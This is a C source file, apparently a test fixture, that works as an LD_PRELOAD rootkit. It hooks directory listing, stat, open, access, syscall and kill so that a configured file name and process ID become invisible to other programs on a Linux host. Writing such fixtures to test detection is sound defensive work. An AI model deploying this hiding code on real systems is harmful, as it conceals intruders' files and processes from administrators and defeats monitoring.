// What a preloaded rootkit does to the programs of a host, and nothing else: a name and a process are not there.
// Compiled by tests only. HIDDEN_NAME and HIDDEN_PID come from the compiler's command line; STRONG hooks more calls.
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NEXT(name) ((__typeof__(&name))dlsym(RTLD_NEXT, #name))

static int hidden(const char *path) {
  return path != NULL && (strstr(path, HIDDEN_NAME) != NULL || strcmp(path, HIDDEN_PID) == 0 ||
                          strncmp(path, "/proc/" HIDDEN_PID, sizeof("/proc/" HIDDEN_PID) - 1) == 0);
}

static int absent(void) {
  errno = ENOENT;
  return -1;
}

struct dirent *readdir(DIR *directory) {
  struct dirent *entry;
  do entry = NEXT(readdir)(directory);
  while (entry != NULL && hidden(entry->d_name));
  return entry;
}

struct dirent64 *readdir64(DIR *directory) {
  struct dirent64 *entry;
  do entry = NEXT(readdir64)(directory);
  while (entry != NULL && hidden(entry->d_name));
  return entry;
}

static int kept(int count, struct dirent64 ***list) {
  if (count < 0) return count;
  struct dirent64 **entries = *list;
  int left = 0;
  for (int at = 0; at < count; at++) {
    if (hidden(entries[at]->d_name)) free(entries[at]);
    else entries[left++] = entries[at];
  }
  return left;
}

int scandir64(const char *path, struct dirent64 ***entries, int (*filter)(const struct dirent64 *),
              int (*compare)(const struct dirent64 **, const struct dirent64 **)) {
  return kept(NEXT(scandir64)(path, entries, filter, compare), entries);
}

int scandir(const char *path, struct dirent ***entries, int (*filter)(const struct dirent *),
            int (*compare)(const struct dirent **, const struct dirent **)) {
  return kept(NEXT(scandir)(path, entries, filter, compare), (struct dirent64 ***)entries);
}

#ifdef STRONG
int stat(const char *path, struct stat *about) { return hidden(path) ? absent() : NEXT(stat)(path, about); }
int stat64(const char *path, struct stat64 *about) { return hidden(path) ? absent() : NEXT(stat64)(path, about); }
int lstat(const char *path, struct stat *about) { return hidden(path) ? absent() : NEXT(lstat)(path, about); }
int lstat64(const char *path, struct stat64 *about) { return hidden(path) ? absent() : NEXT(lstat64)(path, about); }

int fstatat(int at, const char *path, struct stat *about, int flags) {
  return hidden(path) ? absent() : NEXT(fstatat)(at, path, about, flags);
}

int access(const char *path, int mode) { return hidden(path) ? absent() : NEXT(access)(path, mode); }

int statx(int at, const char *path, int flags, unsigned mask, struct statx *about) {
  return hidden(path) ? absent() : NEXT(statx)(at, path, flags, mask, about);
}

static int modeFrom(int flags, va_list rest) { return flags & O_CREAT ? va_arg(rest, int) : 0; }

#define OPENING(name)                                                                                                  \
  int name(const char *path, int flags, ...) {                                                                         \
    va_list rest;                                                                                                      \
    va_start(rest, flags);                                                                                             \
    int mode = modeFrom(flags, rest);                                                                                  \
    va_end(rest);                                                                                                      \
    return hidden(path) ? absent() : NEXT(name)(path, flags, mode);                                                    \
  }
OPENING(open)
OPENING(open64)

#define OPENING_AT(name)                                                                                               \
  int name(int at, const char *path, int flags, ...) {                                                                 \
    va_list rest;                                                                                                      \
    va_start(rest, flags);                                                                                             \
    int mode = modeFrom(flags, rest);                                                                                  \
    va_end(rest);                                                                                                      \
    return hidden(path) ? absent() : NEXT(name)(at, path, flags, mode);                                                \
  }
OPENING_AT(openat)
OPENING_AT(openat64)

int kill(pid_t pid, int signal) {
  if (pid != atoi(HIDDEN_PID)) return NEXT(kill)(pid, signal);
  errno = ESRCH;
  return -1;
}

// libuv asks for statx(2) by its number.
long syscall(long number, ...) {
  long given[6];
  va_list rest;
  va_start(rest, number);
  for (int at = 0; at < 6; at++) given[at] = va_arg(rest, long);
  va_end(rest);
  if ((number == SYS_statx || number == SYS_openat || number == SYS_openat2) && hidden((const char *)given[1]))
    return absent();
  return NEXT(syscall)(number, given[0], given[1], given[2], given[3], given[4], given[5]);
}
#endif
